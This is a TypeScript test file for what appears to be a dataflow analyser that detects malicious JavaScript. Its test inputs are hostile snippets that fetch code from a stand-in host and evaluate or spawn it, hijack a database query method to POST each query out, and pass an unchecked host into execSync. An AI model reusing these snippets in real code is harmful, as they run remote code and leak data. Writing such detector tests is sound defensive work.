import { describe, expect, it } from 'vitest';
import { flows, follow } from './sample.js';

const RUN = "require('vm').runInThisContext";

describe('what a failure carries', () => {
  it.each([
    [
      'the answer of a request, past what follows it',
      `require('axios').get('https://c.example/x').then((r) => r.data).then((d) => { d.list.forEach(console.log); }).catch((e) => ${RUN}(e.response.data));`,
    ],
    [
      'what a promise is rejected with',
      `const ask = () => new Promise((ok, no) => require('https').get('https://c.example', (r) => r.on('data', (d) => no(d)))); ask().catch((e) => ${RUN}(e));`,
    ],
    [
      'what a callback throws',
      `fetch('https://c.example').then((r) => r.text()).then((t) => { throw { t }; }).catch((e) => ${RUN}(e.t));`,
    ],
    [
      'what is thrown under a condition and caught where it is awaited',
      `async function ask() { const r = await fetch('https://c.example'); if (r.status > 399) throw Object.assign(new Error(), { t: await r.text() }); return 1; } (async () => { try { await ask(); } catch (e) { ${RUN}(e.t); } })();`,
    ],
    [
      'what an asynchronous function throws',
      `async function ask() { const r = await fetch('https://c.example'); if (r.status > 399) throw Object.assign(new Error(), { t: await r.text() }); return 1; } ask().catch((e) => ${RUN}(e.t));`,
    ],
  ])('%s', (_, code) => {
    expect(flows(follow(code), 'net.response', 'code.eval')).toBeDefined();
  });

  it('is no answer to who waits for one', () => {
    const code = `const ask = () => new Promise((ok) => require('https').get('https://c.example', (r) => { const all = []; r.on('data', (d) => all.push(d)); r.on('end', () => ok(JSON.parse(Buffer.concat(all).toString()))); }).on('error', () => ok({})));
      (async () => { const { derived } = await ask(); for (const each of derived || []) ${RUN}(each.text); })();`;
    expect(flows(follow(code), 'net.response', 'code.eval')).toBeDefined();
  });
});

describe('files that are run before they are seen to be fetched', () => {
  const FETCH = "require('https').get('https://c.example/x', (r) => r.pipe(require('fs').createWriteStream(file)));";

  it('carry what was fetched', () => {
    const code = `const file = require('path').join(require('os').tmpdir(), 'x'); require('child_process').spawn(file, ['-d']); ${FETCH}`;
    expect(flows(follow(code), 'net.response', 'process.spawn')).toBeDefined();
  });

  it('are modules of any name in their folder, not data', () => {
    const load = (ending: string) =>
      follow(
        `const path = require('path'); const folder = path.join(require('os').tmpdir(), 'c'); const name = require('fs').readdirSync(folder).pop(); require(path.join(folder, name)); const file = path.join(folder, Date.now() + '${ending}'); ${FETCH}`,
      );
    expect(flows(load('.js'), 'net.response', 'code.require')).toBeDefined();
    expect(flows(load('.json'), 'net.response', 'code.require')).toBeUndefined();
  });
});

describe('methods of what others hand over', () => {
  const SEND = "fetch('https://c.example', { method: 'POST', body: String(x) })";

  it('pass on what goes through them once they are replaced', () => {
    const code = `module.exports = (db) => { const query = db.query; db.query = function (x) { ${SEND}; return query.apply(this, arguments); }; };`;
    expect(flows(follow(code), 'param.intercepted', 'net.out')).toBeDefined();
  });

  it('are no others where nothing goes on to them', () => {
    const code = `module.exports = (db) => { db.query = function (x) { ${SEND}; }; };`;
    expect(flows(follow(code), 'param.intercepted', 'net.out')).toBeUndefined();
  });
});

describe('texts with places that are filled', () => {
  it('stay known around what is put in', () => {
    const code =
      "module.exports = (host) => require('child_process').execSync('ping -c 1 __H__ -q'.replace('__H__', host));";
    expect(follow(code).observations.some(({ target }) => target === 'ping -c 1 \uFFFC -q')).toBe(true);
  });
});
